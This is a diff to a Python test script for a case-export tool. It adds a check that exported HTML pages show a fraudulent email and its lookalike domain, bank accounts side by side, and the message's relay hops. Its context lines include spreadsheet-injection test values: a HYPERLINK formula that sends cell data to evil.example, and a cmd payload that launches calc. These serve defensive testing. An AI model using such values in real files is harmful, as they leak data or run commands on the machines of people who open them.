@@ -6,6 +6,7 @@ case_exports.py THREADLINE CORPUS; prints one line a fault and exits 1 when ther
 """
 import csv
 import datetime
+import email
 import html.parser
 import io
 import json
@@ -181,6 +182,67 @@ def check_order(case):
     expect([row["Id"] for row in table] == [row["id"] for row in rows if row["kind"] != "action"], "csv: another order than jsonl")
 
 
+class Blocks(html.parser.HTMLParser):
+    """Tables as lists of rows, and nodes of trees as (depth, class, text)."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.tables, self.nodes, self.depth, self.cell, self.node = [], [], 0, None, None
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        css = dict(attrs).get("class") or ""
+        if tag == "table":
+            self.tables.append((css, []))
+        elif tag == "tr":
+            self.tables[-1][1].append([])
+        elif tag in {"td", "th"}:
+            self.cell = ""
+        elif tag == "ul" and css == "tree":
+            self.depth += 1
+        elif tag == "ul":
+            self.depth += 1000
+        elif tag == "div" and css.startswith("node"):
+            self.node = [self.depth, css, ""]
+
+    def handle_endtag(self, tag):
+        if tag in {"td", "th"}:
+            self.tables[-1][1][-1].append(self.cell)
+            self.cell = None
+        elif tag == "ul":
+            self.depth -= 1000 if self.depth >= 1000 else 1
+        elif tag == "div" and self.node:
+            self.nodes.append(self.node)
+            self.node = None
+
+    def handle_data(self, data):
+        if self.cell is not None:
+            self.cell += data
+        if self.node is not None:
+            self.node[2] += data
+
+
+def check_page(case):
+    """The false message in its conversation, both accounts side by side, and its route: of a case as of one run."""
+    evidence = [CORPUS / "kit-de-survie" / "thread", CORPUS / "kit-de-survie" / "fraud"]
+    for form in (("case", "export", case, "--format", "html"), ("scan", "--lang", "fr", "--format", "html", *evidence)):
+        page = Blocks(run(*form).decode())
+        pairs = [rows for css, rows in page.tables if css == "pair"]
+        expect(len(pairs) == 1 and pairs[0][0] == ["", "Avant", "Après"], f"{form[0]} html: accounts {pairs}")
+        account = next((row for row in pairs[0] if row[0] == "Compte"), ["", "", ""])
+        expect("1999 8004 1200" in account[1] and "1988 7015 3000" in account[2], f"{form[0]} html: not side by side: {account}")
+        story = [(depth, "false" in css, text.split("@")[1].split(">")[0]) for depth, css, text in page.nodes]
+        true, imitation = "meridienne-groupe.example", "meridiene-groupe.example"
+        expect(story == [(1, False, true), (2, False, true), (3, False, true), (4, True, imitation), (5, False, true)],
+               f"{form[0]} html: conversation {story}")
+        expect("FAUX MESSAGE" in page.nodes[3][2], f"{form[0]} html: the false message is not marked")
+        forward = email.message_from_bytes((CORPUS / "kit-de-survie" / "fraud" / "4-transfert.eml").read_bytes())
+        inner = next(part.get_payload(0) for part in forward.walk() if part.get_content_type() == "message/rfc822")
+        hops = [rows for css, rows in page.tables if css == "hops"][0]
+        expect(len(hops) - 1 == len(inner.get_all("Received")), f"{form[0]} html: {len(hops) - 1} hops")
+        expect(all(len(row) == 7 and row[4] for row in hops), f"{form[0]} html: hops {hops}")
+
+
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -339,6 +401,7 @@ def main():
         check_article_workbook(case, folder)
         check_columns(case)
         check_order(case)
+        check_page(case)
         check_report(case, folder)
         check_struck(case, folder)
         hostile = hostile_case(folder)
